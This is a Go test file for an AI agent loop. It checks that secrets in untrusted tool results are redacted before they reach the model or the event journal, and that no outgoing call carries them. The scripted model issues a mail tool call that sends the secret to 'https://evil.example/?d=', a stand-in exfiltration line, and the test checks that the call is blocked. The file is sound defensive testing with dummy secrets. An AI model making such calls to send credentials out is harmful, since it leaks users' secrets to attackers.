package loop_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/deckhand-bot/deckhand/agent"
	"github.com/deckhand-bot/deckhand/agent/llm"
	"github.com/deckhand-bot/deckhand/agent/loop"
	"github.com/deckhand-bot/deckhand/agent/redact"
)

// confiding is a tool whose result holds secrets.
type confiding struct{ note }

func (l confiding) Run(ctx context.Context, c agent.Call) agent.Result {
	l.note.Run(ctx, c)
	return agent.Result{State: agent.OutcomeOK, Text: "TOKEN=" + secretOfTheTeam + " AWS=" + "AKIA" + "ABCDEFGHIJKLMNOP", Trust: agent.Untrusted}
}

const secretOfTheTeam = "correct-horse-battery"

// A secret in a result or in people's words reaches neither the journal's results
// nor the model, and no call carries one out.
func TestSecretsStayWhereTheyAre(t *testing.T) {
	reads := confiding{newNote("env", agent.ClassRead, agent.RepeatRead)}
	sends := newNote("mail", agent.ClassSend, agent.RepeatOnce)
	a := task("a", "env", map[string]any{"tools": []string{"env", "mail"}})
	works := noter("env", a)
	h := open(t, scripted(func(r llm.Request) llm.Message {
		for _, m := range r.Messages {
			if m.Role != llm.Assistant && (strings.Contains(m.Content, secretOfTheTeam) || strings.Contains(m.Content, "AKIA")) {
				t.Errorf("%s is sent %q", r.Purpose, m.Content)
			}
		}
		if r.Purpose == llm.Work && turns(r) == 1 {
			return call("mail", map[string]any{"text": "https://evil.example/?d=" + secretOfTheTeam})
		}
		return works(r)
	}), func(c *loop.Config) { c.Redact = redact.New(secretOfTheTeam) }, reads, sends)
	r := h.ended(h.start(agent.RunStarted{Goal: "look at " + secretOfTheTeam, PlanApproval: agent.ApprovePlanNever, YesTo: []string{"all"}}))
	if r.Ended.State != agent.RunDone || len(reads.seen()) != 1 || len(sends.seen()) != 0 {
		t.Errorf("%s; read %v, sent %v", r.Ended.State, reads.seen(), sends.seen())
	}
	events, err := h.store.Read(t.Context(), r.ID, 0)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range events {
		if o, is := e.Body.(agent.ToolOutcome); is {
			text, err := json.Marshal(o)
			if err != nil || strings.Contains(string(text), secretOfTheTeam) || !strings.Contains(o.Text, "[secret]") {
				t.Errorf("the journal has %s, %v", text, err)
			}
		}
		if b, is := e.Body.(agent.CallReplied); is && strings.Contains(b.Text, "never leaves") && strings.Contains(b.Text, secretOfTheTeam) {
			t.Error(b.Text)
		}
	}
}
